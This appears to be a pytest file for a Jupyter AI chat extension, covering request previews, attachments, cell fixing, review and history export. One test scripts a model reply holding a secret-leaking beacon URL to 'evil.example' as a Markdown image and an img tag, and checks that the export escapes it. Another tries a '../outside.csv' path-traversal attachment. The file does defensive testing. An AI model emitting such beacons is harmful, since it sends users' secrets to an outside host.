"""What the chat panel asks of the server: previews, attached files, "fix this cell", history."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

from jupyter_ci.server.app import JupyterCIServer
from jupyter_ci.testing import Reply, ScriptedModelServer
from jupyter_ci.testing.lab_tab import ScriptedTab

from .support import exported, finished, start_request

TabFactory = Callable[..., ScriptedTab]
KernelStarter = Callable[[], Awaitable[str]]


def preview_request(kernel_id: str, prompt: str, **fields: Any) -> dict[str, Any]:
    return {
        "request": "preview",
        "notebook_path": "a.ipynb",
        "kernel_id": kernel_id,
        "prompt": prompt,
        "options": {},
        "anchor_cell_id": None,
        **fields,
    }


async def test_a_preview_shows_what_would_be_sent_without_sending_it(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_root_dir: Path,
) -> None:
    (jp_root_dir / "data").mkdir()
    (jp_root_dir / "data" / "fares.csv").write_text("name,fare\nAnn,30.0\nBob,39.3\n")
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    await tab.run_user_cell("a.ipynb", "fares = [30.0, 39.3]")
    await tab.run_user_cell("a.ipynb", "total = sum(fares)")
    reply = await tab.request(
        preview_request(
            kernel_id,
            "what is the mean fare?",
            attachments=["data/fares.csv", "../outside.csv"],
            options={"context_tokens": 3000},
        )
    )
    assert reply["ok"] is True, reply
    preview = reply["preview"]
    assert preview["model"] == "openai/scripted"
    assert preview["context_tokens"] == 3000
    roles = [m["role"] for m in preview["messages"]]
    assert roles == ["system", "user"]
    request = preview["messages"][-1]["content"]
    assert "fares = [30.0, 39.3]" in request
    assert "total: float = 69.3" in request  # the kernel's variables
    assert "Columns (2): name, fare" in request
    assert "Ann,30.0" in request
    assert "../outside.csv could not be read" in request
    assert request.rstrip().endswith("what is the mean fare?")
    assert preview["prompt_tokens"] > 50
    # Each message's share of the count, as the panel shows it.
    assert all(m["tokens"] > 0 for m in preview["messages"])
    assert sum(m["tokens"] for m in preview["messages"]) == preview["prompt_tokens"]
    assert model_server.chat_requests == []  # nothing went to the model
    # The run of the same request sends exactly what the preview showed.
    model_server.set_script([Reply.text("About 34.65.")])
    run = await tab.request(
        start_request(
            "a.ipynb",
            kernel_id,
            "what is the mean fare?",
            attachments=["data/fares.csv", "../outside.csv"],
            options={"context_tokens": 3000},
        )
    )
    await tab.wait_for_event(finished, run["run_id"])
    sent = model_server.chat_requests[0].body["messages"]

    def same(text: str) -> str:  # each run wraps data with its own nonce
        return re.sub(r'id="[0-9a-f]+"', 'id="N"', text)

    assert [same(m["content"]) for m in sent] == [same(m["content"]) for m in preview["messages"]]


async def test_attached_cells_go_with_their_outputs_and_only_as_the_user_allows(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
) -> None:
    kernel_id = await start_kernel()
    tab = tab_factory()
    notebook = tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    await tab.run_user_cell("a.ipynb", "print('OUTPUT-MARKER')  # attached")
    await tab.run_user_cell("a.ipynb", "print('SKIPPED-MARKER')")
    await tab.run_user_cell("a.ipynb", "x = 1")
    attached, skipped, last = (cell["id"] for cell in notebook.cells)
    notebook.cells[1]["metadata"]["tags"] = ["jupyter-ci-skip"]
    # New cells would go above the attached one: it is not in the notebook view, only attached.
    fields = {"anchor_cell_id": attached, "attached_cell_ids": [attached, skipped, "gone"]}
    reply = await tab.request(preview_request(kernel_id, "explain these", **fields))
    request = reply["preview"]["messages"][-1]["content"]
    assert "The notebook has no cells above the request." in request
    assert "cells the user attached" in request
    assert "print('OUTPUT-MARKER')  # attached" in request
    assert "# output of cell 1:\n[stdout] OUTPUT-MARKER" in request
    assert "SKIPPED-MARKER" not in request
    assert "[cell 2 is tagged jupyter-ci-skip: not shown]" in request
    assert "[an attached cell is no longer in the notebook]" in request
    assert request.rstrip().endswith("explain these")
    # Without share_outputs the code goes, the output does not.
    private = await tab.request(
        preview_request(kernel_id, "explain these", options={"share_outputs": False}, **fields)
    )
    request = private["preview"]["messages"][-1]["content"]
    assert "print('OUTPUT-MARKER')  # attached" in request
    assert "# output of cell 1" not in request
    # The conversation keeps what the user typed, not the attached code.
    model_server.set_script([Reply.text("It prints a marker.")])
    run = await tab.request(
        start_request("a.ipynb", kernel_id, "explain these", **{**fields, "anchor_cell_id": last})
    )
    await tab.wait_for_event(finished, run["run_id"])
    assert "OUTPUT-MARKER" in model_server.chat_requests[0].body["messages"][-1]["content"]
    history = await app.store.messages((await app.store.conversation_for("a.ipynb")).id)
    assert [m.text for m in history if m.role == "user"] == ["explain these"]


async def test_fix_this_cell_through_the_server(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
) -> None:
    model_server.set_script([Reply.code("ratio = 10 / 2\nprint(ratio)", prose="Divide by 2.")])
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    await tab.run_user_cell("a.ipynb", "ratio = 10 / 0")
    broken = tab.notebooks["a.ipynb"].cells[-1]
    assert broken["outputs"][-1]["ename"] == "ZeroDivisionError"
    reply = await tab.request(
        start_request("a.ipynb", kernel_id, "Fix this cell.", fix_cell_id=broken["id"])
    )
    end = await tab.wait_for_event(finished, reply["run_id"], timeout=60)
    assert (end["state"], end["reason"]) == ("done", "fixed")
    assert len(tab.notebooks["a.ipynb"].cells) == 1  # fixed in place
    assert broken["source"] == "ratio = 10 / 2\nprint(ratio)"
    assert broken["outputs"][0]["text"] == "5.0\n"
    assert "ZeroDivisionError" in model_server.chat_requests[0].body["messages"][-1]["content"]
    messages = [e for e in tab.events(reply["run_id"]) if e["type"] == "message"]
    assert messages[-1]["text"] == "Divide by 2."


async def test_history_and_its_markdown_export_and_clearing(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    model_server.set_script([Reply.text("Hello there.")])
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    reply = await tab.request(start_request("a.ipynb", kernel_id, "say hello"))
    await tab.wait_for_event(finished, reply["run_id"])
    history = json.loads(
        (await jp_fetch("jupyter-ci", "conversation", params={"path": "a.ipynb"})).body
    )
    said = [(m["role"], m["text"]) for m in history["messages"]]
    assert [entry for entry in said if entry[0] != "notice"] == [
        ("user", "say hello"),
        ("assistant", "Hello there."),
    ]
    # Notices (here: the unknown price) are part of the history the panel shows.
    assert any(role == "notice" and "price" in text for role, text in said)
    assert history["usage"]["runs"] == 1
    assert history["usage"]["cost"] is None  # the scripted model's price is unknown
    # The run's stored events come with it (the panel shows its steps again after a reload).
    [run] = history["runs"]
    assert run["run_id"] == reply["run_id"]
    kinds = [event["type"] for event in run["events"]]
    assert kinds[-1] == "finished"
    assert "usage" in kinds
    assert "token" not in kinds
    exported = await jp_fetch("jupyter-ci", "conversation", "export", params={"path": "a.ipynb"})
    text = exported.body.decode()
    assert exported.headers["Content-Type"].startswith("text/markdown")
    assert "a-jupyter-ci.md" in exported.headers["Content-Disposition"]
    assert text.startswith("# jupyter-ci conversation: a.ipynb")
    assert "**You:**\n\nsay hello" in text
    assert "**jupyter-ci:**\n\nHello there." in text
    cleared = await jp_fetch(
        "jupyter-ci", "conversation", params={"path": "a.ipynb"}, method="DELETE"
    )
    assert cleared.code == 204
    after = json.loads(
        (await jp_fetch("jupyter-ci", "conversation", params={"path": "a.ipynb"})).body
    )
    assert after["messages"] == []
    assert after["runs"] == []


async def test_a_rejected_cell_is_reported_to_the_model_in_the_next_request(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    model_server.set_script(
        [Reply.code("print('unwanted')"), Reply.text("Understood."), Reply.text("Nothing else.")]
    )
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    reply = await tab.request(
        start_request("a.ipynb", kernel_id, "print something", options={"mode": "review"})
    )
    run_id = reply["run_id"]
    await tab.wait_for_event(
        lambda e: e["type"] == "state" and e["state"] == "awaiting_approval", run_id
    )
    inserted = next(e for e in tab.events(run_id) if e["type"] == "cell_inserted")
    answer = await tab.request(
        {
            "request": "review",
            "run_id": run_id,
            "cell_id": inserted["cell_id"],
            "decision": "reject",
            "source": None,
        }
    )
    assert answer["ok"] is True
    end = await tab.wait_for_event(finished, run_id, timeout=60)
    assert (end["state"], end["reason"]) == ("done", "rejected")
    assert tab.notebooks["a.ipynb"].cell(inserted["cell_id"])["outputs"] == []
    # Within the run the model was told at once, and answered in prose (which ended the run).
    told = model_server.chat_requests[1].body["messages"][-1]["content"]
    assert "The user rejected this cell without running it." in str(told)
    # The store is written off the run's path: wait for the record of the rejection.
    users: list[str] = []
    for _ in range(100):
        history = json.loads(
            (await jp_fetch("jupyter-ci", "conversation", params={"path": "a.ipynb"})).body
        )
        users = [m["text"] for m in history["messages"] if m["role"] == "user"]
        if len(users) >= 2:
            break
        await asyncio.sleep(0.1)
    assert users[0] == "print something"
    assert users[1] == (
        "I rejected the cell you proposed, without running it.\n\n```python\nprint('unwanted')\n```"
    )
    # The next request of the notebook carries the rejection to the model.
    again = await tab.request(start_request("a.ipynb", kernel_id, "what now?"))
    await tab.wait_for_event(finished, again["run_id"], timeout=60)
    sent = [m["content"] for m in model_server.chat_requests[-1].body["messages"]]
    assert any("I rejected the cell you proposed" in str(content) for content in sent)


async def test_the_export_holds_each_request_its_final_code_outputs_and_answer(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    model_server.set_script(
        [
            Reply.code("total = 2 + undefined_name"),
            Reply.code("total = 2 + 3\nprint(total)"),
            Reply.text("The total is 5."),
        ]
    )
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    reply = await tab.request(start_request("a.ipynb", kernel_id, "add two and three"))
    end = await tab.wait_for_event(finished, reply["run_id"], timeout=60)
    assert (end["state"], end["reason"], end["answer"]) == ("done", "answered", "The total is 5.")
    [cell] = tab.notebooks["a.ipynb"].cells
    assert cell["source"] == "total = 2 + 3\nprint(total)"
    text = await exported(jp_fetch, "a.ipynb", end["text"])
    # As it happened: the request, the cell as written and its error, the fix and its output,
    # then the answer and the status line.
    order = [
        "**You:**\n\nadd two and three",
        "_jupyter-ci wrote a cell (step 1):_\n\n```python\ntotal = 2 + undefined_name\n```",
        "Output (error):\n\n```text\n",
        "_jupyter-ci fixed the cell (attempt 2):_\n\n```python\ntotal = 2 + 3\nprint(total)\n```",
        "Output:\n\n```text\n",
        "**jupyter-ci:**\n\nThe total is 5.",
        f"_{end['text']}_",  # the status line, as the loop composed it
    ]
    assert all(part in text for part in order), text
    at = [text.index(part) for part in order]
    assert at == sorted(at), text
    assert "NameError" in text[at[2] : at[3]]
    assert "[stdout] 5" in text[at[4] : at[5]]


async def test_the_exported_file_loads_nothing_the_model_wrote(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    """A model's beacon (an image, raw HTML) reaches the downloaded Markdown as text: a viewer
    that renders it fetches nothing (issue 27, item 2, the export's form)."""
    beacon = "https://evil.example/leak?secret=s3"
    model_server.set_script(
        [Reply.text(f'Done. ![chart]({beacon})\n\n<img src="{beacon}"> `x < 1`')]
    )
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    reply = await tab.request(start_request("a.ipynb", kernel_id, "chart it"))
    await tab.wait_for_event(finished, reply["run_id"], timeout=60)
    text = ""
    for _ in range(100):  # the record is written off the run's path: wait for the answer
        response = await jp_fetch(
            "jupyter-ci", "conversation", "export", params={"path": "a.ipynb"}
        )
        text = response.body.decode()
        if "Done." in text:
            break
        await asyncio.sleep(0.05)
    assert f"Done. !\\[chart]({beacon})" in text, text
    assert f'&lt;img src="{beacon}">' in text, text
    assert "`x < 1`" in text  # code spans as written
    assert "<img" not in text, text
    assert "![" not in text, text


async def test_the_export_tells_a_review_as_it_happened(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    model_server.set_script(
        [
            Reply.code("print('unwanted')", prose="I will print something."),
            Reply.code("print('wanted')"),
            Reply.text("It printed."),
        ]
    )
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    reply = await tab.request(
        start_request("a.ipynb", kernel_id, "print something", options={"mode": "review"})
    )
    run_id = reply["run_id"]
    seen = 0
    for decision, source in (("reject", None), ("run", "print('edited')")):
        waiting = await tab.wait_for_event(
            lambda e, after=seen: (
                e["type"] == "state" and e["state"] == "awaiting_approval" and e["seq"] > after
            ),
            run_id,
        )
        seen = waiting["seq"]
        cell = next(e for e in tab.events(run_id) if e["type"] == "cell_inserted")["cell_id"]
        answer = await tab.request(
            {
                "request": "review",
                "run_id": run_id,
                "cell_id": cell,
                "decision": decision,
                "source": source,
            }
        )
        assert answer["ok"] is True, answer
    end = await tab.wait_for_event(finished, run_id, timeout=60)
    assert (end["state"], end["answer"]) == ("done", "It printed."), end
    text = ""
    for _ in range(100):  # the record is written off the run's path: wait for its end
        response = await jp_fetch(
            "jupyter-ci", "conversation", "export", params={"path": "a.ipynb"}
        )
        text = response.body.decode()
        if end["text"] in text:
            break
        await asyncio.sleep(0.05)
    order = [
        "**You:**\n\nprint something",
        "**jupyter-ci:**\n\nI will print something.",
        "_jupyter-ci wrote a cell (step 1):_\n\n```python\nprint('unwanted')\n```",
        "**You:**\n\nI rejected the cell you proposed",
        "_jupyter-ci proposed another version:_\n\n```python\nprint('wanted')\n```",
        "_You edited the cell:_\n\n```python\nprint('edited')\n```",
        "Output:\n\n```text\n[stdout] edited",
        "**jupyter-ci:**\n\nIt printed.",
        f"_{end['text']}_",
    ]
    assert all(part in text for part in order), text
    at = [text.index(part) for part in order]
    assert at == sorted(at), text


async def test_export_names_any_notebook_safely_and_reading_creates_nothing(
    app: JupyterCIServer, jp_fetch: Any
) -> None:
    for path, ascii_name, encoded in [
        ("日本.ipynb", "__-jupyter-ci.md", "%E6%97%A5%E6%9C%AC-jupyter-ci.md"),
        ('a"b.ipynb', "a_b-jupyter-ci.md", "a%22b-jupyter-ci.md"),
        ("x\r\ny.ipynb", "x__y-jupyter-ci.md", "x%0D%0Ay-jupyter-ci.md"),
    ]:
        response = await jp_fetch("jupyter-ci", "conversation", "export", params={"path": path})
        header = response.headers["Content-Disposition"]
        assert header == (f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{encoded}"), (
            header
        )
        assert response.body.decode().startswith(f"# jupyter-ci conversation: {path}")
        history = json.loads(
            (await jp_fetch("jupyter-ci", "conversation", params={"path": path})).body
        )
        assert (history["messages"], history["runs"]) == ([], [])
    # Reading (GET) wrote nothing: no conversation was made for any of these paths.
    store = app.store
    assert await store.find_conversation("日本.ipynb") is None
    assert await store.find_conversation('a"b.ipynb') is None


async def test_a_notice_is_said_once_per_conversation(
    app: JupyterCIServer,
    model_server: ScriptedModelServer,
    start_kernel: KernelStarter,
    tab_factory: TabFactory,
    jp_fetch: Any,
) -> None:
    model_server.set_script([Reply.text("One."), Reply.text("Two."), Reply.text("Three.")])
    kernel_id = await start_kernel()
    tab = tab_factory()
    tab.open_notebook("a.ipynb", kernel_id)
    await tab.connect()
    notices: list[str] = []
    for prompt in ("first", "second", "third"):
        reply = await tab.request(start_request("a.ipynb", kernel_id, prompt))
        await tab.wait_for_event(finished, reply["run_id"])
        notices += [
            e["text"]
            for e in tab.events(reply["run_id"])
            if e["type"] == "message" and e["role"] == "notice"
        ]
    # The scripted model's price is unknown: said in the first run only, not in every run.
    assert len(notices) == 1, notices
    assert "The price of openai/scripted is unknown" in notices[0]
